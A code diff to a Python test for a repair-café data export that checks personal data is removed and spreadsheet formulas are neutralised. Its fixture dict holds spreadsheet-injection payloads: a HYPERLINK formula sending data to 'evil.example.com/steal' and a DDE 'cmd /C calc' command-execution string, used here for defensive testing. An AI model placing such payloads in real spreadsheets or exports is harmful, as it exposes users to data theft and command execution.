@@ -37,14 +37,16 @@ LATER = NOW + timedelta(hours=5)
 HOSTILE = {
     "email_and_phone": "Ring meg på 912 34 567 eller skriv til kari.nordmann@example.no.",
     "formula": '=HYPERLINK("http://evil.example.com/steal?c=1","Klikk her")',
-    "url_and_serial": "Se https://www.elkjop.no/produkt/123 og serienummer 1234567890123.",
+    "url_and_account": "Se https://www.elkjop.no/produkt/123, betal til 1234.56.78903.",
     "international_phone": "+47 22 12 34 56 etter klokka 16",
     "at_formula": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
 EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
 URL = re.compile(r"https?://|www\.", re.IGNORECASE)
 PHONE = re.compile(r"\+47|\b\d{3} \d{2} \d{3}\b|\b\d{2} \d{2} \d{2} \d{2}\b")
-LONG_NUMBER = re.compile(r"\d{6,}")
+# A personal number (the account number above), not any long number: model and part numbers
+# are repair context and stay.
+PERSONAL_NUMBER = re.compile(r"1234\.56\.78903")
 
 
 def rows_of(body: str) -> list[dict[str, str]]:
@@ -127,7 +129,7 @@ async def test_the_export_is_valid_ords_with_no_personal_data_and_no_live_formul
             assert not row[column].startswith(("=", "+", "-", "@")), (column, row[column])
     assert len({row["id"] for row in rows}) == len(rows)
     problems = " ".join(row["problem"] for row in rows)
-    for pattern in (EMAIL, URL, PHONE, LONG_NUMBER):
+    for pattern in (EMAIL, URL, PHONE, PERSONAL_NUMBER):
         assert not pattern.search(problems), pattern.search(problems)
 
     by_id = {row["id"]: row for row in rows}
@@ -135,7 +137,7 @@ async def test_the_export_is_valid_ords_with_no_personal_data_and_no_live_formul
     assert formula["problem"].startswith("'=HYPERLINK(")
     assert "[url]" in formula["problem"]
     assert "[e-mail]" in by_id[logged["email_and_phone"]["ords_id"]]["problem"]
-    assert "[number]" in by_id[logged["url_and_serial"]["ords_id"]]["problem"]
+    assert "[number]" in by_id[logged["url_and_account"]["ords_id"]]["problem"]
     hostile = by_id[logged["hostile_brand"]["ords_id"]]
     assert (hostile["brand"], hostile["partner_product_category"]) == ("'@Lenovo", "'-Bærbar PC")
     assert hostile["group_identifier"] == "'=Reparasjonskafé Oslo"
